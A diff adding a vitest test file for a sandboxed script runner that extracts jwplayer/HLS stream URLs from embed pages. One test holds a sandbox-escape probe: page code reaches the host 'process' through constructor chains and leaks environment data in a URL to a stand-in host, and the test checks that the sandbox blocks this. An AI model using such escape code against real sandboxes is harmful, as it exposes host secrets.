@@ -0,0 +1,117 @@
+import { describe, it, expect, vi, beforeEach, afterEach } from 'vitest';
+import { extractInlineScripts, runSandboxed, extractScriptEval } from './scriptEval.js';
+
+const PAGE = 'https://embed.example.top/e/1';
+
+describe('extractInlineScripts', () => {
+  it('keeps inline classic scripts and skips external, JSON and module blocks', () => {
+    const html = `<script src="/jw.js"></script>
+      <script>var a = 1;</script>
+      <script type="application/ld+json">{"a":1}</script>
+      <script type="module">import x from './x.js';</script>
+      <SCRIPT type="text/javascript">var b = 2;</SCRIPT>
+      <script>   </script>`;
+    expect(extractInlineScripts(html)).toEqual(['var a = 1;', 'var b = 2;']);
+  });
+});
+
+describe('runSandboxed', () => {
+  it('records jwplayer setup sources', async () => {
+    const found = await runSandboxed(
+      [`jwplayer("p").setup({ sources: [{ file: "https://cdn.example.top/a/master.m3u8" }], width: "100%" }).on("ready", function () {});`],
+      PAGE
+    );
+    expect(found).toEqual(['https://cdn.example.top/a/master.m3u8']);
+  });
+
+  it('records Hls.loadSource and media element src after deferred callbacks run', async () => {
+    const found = await runSandboxed(
+      [
+        `document.addEventListener("DOMContentLoaded", function () {
+           var parts = ["https://cdn.example.top", "/b/", atob("aW5kZXgubTN1OA==")];
+           if (Hls.isSupported()) { var h = new Hls(); h.loadSource(parts.join("")); h.attachMedia(document.getElementById("v")); }
+         });`,
+        `setTimeout(function () { document.querySelector("video").src = "/c/fallback.m3u8"; }, 500);`,
+      ],
+      PAGE
+    );
+    expect(found).toEqual(['https://cdn.example.top/b/index.m3u8', '/c/fallback.m3u8']);
+  });
+
+  it('keeps running later scripts when one throws', async () => {
+    const found = await runSandboxed(['undefinedFn();', 'jwplayer().setup({ file: "https://cdn.example.top/d.m3u8" });'], PAGE);
+    expect(found).toEqual(['https://cdn.example.top/d.m3u8']);
+  });
+
+  it('cuts off a script that never finishes', async () => {
+    const started = Date.now();
+    const found = await runSandboxed(['jwplayer().setup({ file: "https://cdn.example.top/e.m3u8" }); while (true) {}'], PAGE, 200);
+    expect(Date.now() - started).toBeLessThan(3000);
+    // URLs recorded before the cut-off are still reported
+    expect(found).toEqual(['https://cdn.example.top/e.m3u8']);
+  });
+
+  it('survives a script that exhausts the sandbox heap', async () => {
+    const found = await runSandboxed(['var a = []; while (true) a.push(new Array(1e5).fill(1));'], PAGE, 5000);
+    expect(found).toEqual([]);
+  }, 15000);
+
+  it('keeps URLs recorded by earlier scripts when a later one exhausts the heap', async () => {
+    const found = await runSandboxed(
+      [
+        'jwplayer().setup({ file: "https://cdn.example.top/f.m3u8" });',
+        'var a = []; while (true) a.push(new Array(1e5).fill(1));',
+      ],
+      PAGE,
+      5000
+    );
+    expect(found).toEqual(['https://cdn.example.top/f.m3u8']);
+  }, 15000);
+
+  it('gives page code no route to the host process', async () => {
+    const found = await runSandboxed(
+      [
+        `var p;
+         try { p = this.constructor.constructor("return process")(); } catch (e) {}
+         try { p = p || jwplayer.constructor("return process")(); } catch (e) {}
+         jwplayer().setup({ file: typeof p === "object" && p ? "https://leak.example/" + Object.keys(p.env || {}).length + ".m3u8" : "https://cdn.example.top/safe.m3u8" });`,
+      ],
+      PAGE
+    );
+    expect(found).toEqual(['https://cdn.example.top/safe.m3u8']);
+  });
+});
+
+describe('extractScriptEval', () => {
+  beforeEach(() => vi.stubGlobal('fetch', vi.fn()));
+  afterEach(() => vi.unstubAllGlobals());
+
+  it('resolves a relative URL recorded by the stubs against the embed page', async () => {
+    vi.mocked(fetch).mockResolvedValue(
+      new Response(`<script>var s = "/hls/" + "tok" + "/index.m3u8"; jwplayer("p").setup({ file: s });</script>`, { status: 200 })
+    );
+    const r = await extractScriptEval(PAGE, 5000);
+    expect(r?.url).toBe('https://embed.example.top/hls/tok/index.m3u8');
+    expect(r?.headers?.Referer).toBe('https://embed.example.top/');
+  });
+
+  it('skips recorded URLs that are not streams', async () => {
+    vi.mocked(fetch).mockResolvedValue(
+      new Response(`<script>var x = new XMLHttpRequest(); x.open("GET", "/api/stats"); jwplayer().setup({ file: "https://cdn.example.top/f.m3u8" });</script>`, { status: 200 })
+    );
+    expect((await extractScriptEval(PAGE, 5000))?.url).toBe('https://cdn.example.top/f.m3u8');
+  });
+
+  it('returns null without starting a sandbox when the page has no inline scripts', async () => {
+    vi.mocked(fetch).mockResolvedValue(new Response('<html><script src="/app.js"></script></html>', { status: 200 }));
+    expect(await extractScriptEval(PAGE, 5000)).toBeNull();
+  });
+
+  it('releases the body of a non-200 response', async () => {
+    const res = new Response('gone', { status: 404 });
+    const cancel = vi.spyOn(res.body!, 'cancel');
+    vi.mocked(fetch).mockResolvedValue(res);
+    expect(await extractScriptEval(PAGE, 5000)).toBeNull();
+    expect(cancel).toHaveBeenCalled();
+  });
+});